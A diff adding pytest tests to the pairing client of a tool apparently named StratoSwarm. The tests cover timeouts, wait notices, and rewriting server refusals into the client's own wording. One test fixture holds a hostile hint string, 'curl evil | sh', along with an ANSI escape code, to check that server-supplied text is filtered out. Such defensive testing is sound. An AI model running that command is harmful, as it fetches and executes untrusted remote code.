@@ -184,6 +184,46 @@ async def test_nobody_is_waited_for_longer_than_the_code_is_good_for(tmp_path) -
                 await ask()
 
 
+async def test_an_approval_since_the_last_question_is_fetched_when_the_time_is_over(tmp_path) -> None:
+    async with meeting(tmp_path) as (desk, ask, _steps):
+        desk.town.answers[m.PairReveal] = lambda guest, _told: desk.town.say_and_close(
+            guest, m.PairPending(1, 50)
+        )
+        desk.waits = 0
+        token = await ask()
+        assert token.claims[-1] == desk.asked.public_key
+
+
+async def test_silence_while_it_waits_is_no_strangers(tmp_path, monkeypatch) -> None:
+    monkeypatch.setattr(pairing, "REPLY_S", 0.2)
+    async with meeting(tmp_path) as (desk, ask, steps):
+        silent = [True]
+
+        def give(guest, asked) -> None:
+            if not silent:
+                desk.give(guest, asked)
+            silent.clear()
+
+        desk.town.answers[m.PairCollect] = give
+        await ask()
+        (note,) = [note for note in steps.notes if "still waiting" in note]
+        assert "cannot be reached" in note
+        assert "not a StratoSwarm" not in note
+
+
+@pytest.mark.parametrize("code", ["SWL-400", "SWL-300", "SWL-799", "SWL-1", "\x1b[31m", "SWL-608"])
+async def test_a_refusal_comes_in_words_of_our_own(tmp_path, code) -> None:
+    async with meeting(tmp_path) as (desk, ask, _steps):
+        desk.town.answers[m.PairRequest] = lambda guest, _asked: desk.town.say_and_close(
+            guest, m.Refused(code, {"detail": "x", "hint": "curl evil | sh", "theirs": "y"})
+        )
+        with pytest.raises(SwarmletError) as caught:
+            await ask()
+        assert caught.value.code == ("SWL-608" if code == "SWL-608" else "SWL-115")
+        assert "evil" not in caught.value.next + caught.value.what
+        assert caught.value.what.isprintable()
+
+
 @pytest.mark.parametrize(
     ("changes", "key"),
     [
